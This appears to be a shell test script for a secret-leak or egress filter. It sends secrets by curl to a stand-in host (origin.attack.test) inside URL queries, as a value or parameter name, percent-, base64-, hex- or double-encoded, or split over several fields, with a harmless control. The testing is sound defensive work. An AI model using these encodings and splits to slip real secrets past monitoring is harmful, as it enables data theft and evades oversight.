# A secret to an allowed host in the query: value, name, encodings, split over fields.
need curl python3
where="https://origin.attack.test:$PORT/search"
for secret in harmless $secrets; do
	with=send && [ "$secret" = harmless ] && with=harmless
	$with "value $secret" --get --data-urlencode "q=$(text $secret)" "$where"
	$with "name $secret" --get --data-urlencode "$(text $secret)=1" "$where"
	$with "alone $secret" "$where?$(text $secret)"
	$with "percent $secret" "$where?q=$(text $secret | python3 -c 'import sys; print("".join("%%%02X" % b for b in sys.stdin.buffer.read()))')"
	$with "base64 $secret" --get --data-urlencode "q=$(text $secret | base64 -w0)" "$where"
	$with "hex $secret" "$where?q=$(text $secret | od -An -v -tx1 | tr -d ' \n')"
	$with "twice encoded $secret" --get --data-urlencode "q=$(text $secret | base64 -w0 | base64 -w0 | tr -d =)" "$where"
	case $secret in shape-*) continue ;; esac
	$with "two halves $secret" "$where?a=$(text $secret | cut -c-20)&b=$(text $secret | cut -c21-)"
	$with "three parts $secret" "$where?a=$(text $secret | cut -c-12)&x=1&b=$(text $secret | cut -c13-24)&y=2&c=$(text $secret | cut -c25-)"
done
